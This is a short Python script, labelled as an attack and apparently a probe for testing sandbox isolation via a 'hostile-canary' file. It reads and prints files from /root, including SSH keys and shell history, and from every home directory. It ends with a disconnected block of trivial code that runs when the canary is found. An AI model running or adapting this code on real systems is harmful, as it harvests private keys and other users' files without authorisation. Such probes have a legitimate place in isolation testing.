"""Attack: read root's home directory (/root: canary file, shell history, SSH keys) and /home."""
import glob
import os

loot = {}
for pattern in ("/root/*", "/root/.*", "/root/.ssh/*", "/home/*/*"):
    for path in glob.glob(pattern):
        if os.path.isfile(path):
            try:
                with open(path, errors="replace") as stream:
                    loot[path] = stream.read()[:2000]
            except OSError:
                pass
print(loot)

if any("hostile-canary" in path for path in loot):
    NAMES = ["a", "b"]

    def scale(x, k):
        return x * k
